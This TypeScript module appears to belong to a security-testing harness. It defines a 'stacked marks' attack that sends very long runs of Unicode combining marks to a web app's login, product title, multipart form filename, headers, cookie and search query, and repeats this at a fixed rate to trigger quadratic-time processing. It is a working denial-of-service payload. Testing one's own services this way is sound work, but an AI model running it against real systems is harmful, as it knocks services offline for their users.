import type { Attack } from '../attack.ts'
import { flood, send } from '../send.ts'

/** Marks of two kinds in turn: to sort them takes an engine a time that grows with their square. */
const marks = (count: number) => '\u0301'.repeat(count / 2) + '\u0316'.repeat(count / 2)

export const stackedMarks: Attack = {
  row: 1,
  what: 'stacked marks in a login, a title, a form, headers, a cookie, a query',
  async prepare({ baseUrl, makePerson }, findings) {
    const { headers } = await makePerson()
    const from = '127.0.2.1'
    const text = `a${marks(100_000)}`
    const bytes = Buffer.from(`a${marks(3_000)}`).toString('latin1')
    const boundary = 'between-parts'
    const part = (name: string, value: string) =>
      `--${boundary}\r\ncontent-disposition: form-data; ${name}\r\n\r\n${value}\r\n`
    const form = `${part('name="fullName"', text)}${part(`name="avatar"; filename="${text}"`, 'x')}--${boundary}--\r\n`
    const formHeaders = { ...headers, 'content-type': `multipart/form-data; boundary=${boundary}` }
    const texts: [string, () => ReturnType<typeof send>][] = [
      ['login', () => send(baseUrl, '/api/users/login', { from, body: { email: `${text}@b.c`, password: text } })],
      ['title', () => send(baseUrl, '/api/products/add', { from, headers, body: { title: text.repeat(4) } })],
      ['form', () => send(baseUrl, '/api/users/edit-user', { from, method: 'PUT', headers: formHeaders, body: form })],
      ['headers', () => send(baseUrl, '/', { from, headers: { 'user-agent': bytes, 'accept-language': bytes } })],
      ['cookie', () => send(baseUrl, '/', { from, headers: { cookie: `language=${bytes}` } })],
      ['query', () => send(baseUrl, `/?search=${encodeURIComponent(`a${marks(2_000)}`)}`, { from })],
    ]
    return () =>
      flood({ perSecond: 6, seconds: 12 }, async (turn) => {
        const [what, begin] = texts[turn % texts.length] as (typeof texts)[0]
        findings.count(what, (await begin()).status)
      })
  },
}
